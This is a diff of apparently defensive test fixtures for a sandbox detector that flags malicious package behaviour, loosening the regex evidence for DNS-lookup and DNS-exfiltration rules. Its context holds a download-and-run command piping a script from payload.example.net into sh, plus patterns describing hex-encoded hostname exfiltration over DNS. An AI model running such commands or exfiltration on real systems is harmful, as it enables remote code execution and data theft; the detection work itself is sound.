@@ -43,7 +43,7 @@ os.system("curl -fsSL http://payload.example.net/install.sh | sh")
 `,
     giveaways: ['urlretrieve', 'curl', 'payload.example.net', 'stage2'],
     expect: [
-      { rule: 'sandbox.dns-lookup', evidence: /^payload\.example\.net \(A+\)$/ },
+      { rule: 'sandbox.dns-lookup', evidence: /^payload\.example\.net$/ },
       { rule: 'sandbox.download-and-run', evidence: /curl -fsSL http:\/\/payload\.example\.net\/install\.sh \| sh/ },
     ],
   },
@@ -90,8 +90,8 @@ except Exception:
 `,
     giveaways: ['gethostname', 'getuser', 'example.net', 'urlopen'],
     expect: [
-      { rule: 'sandbox.dns-exfiltration', evidence: /^6275696c646572[0-9a-f]+\.b\.example\.net \(A\)$/ },
-      { rule: 'sandbox.dns-lookup', evidence: /^b\.example\.net \(A+\)$/ },
+      { rule: 'sandbox.dns-exfiltration', evidence: /^6275696c646572[0-9a-f]+\.b\.example\.net$/ },
+      { rule: 'sandbox.dns-lookup', evidence: /^b\.example\.net$/ },
     ],
   },
   {
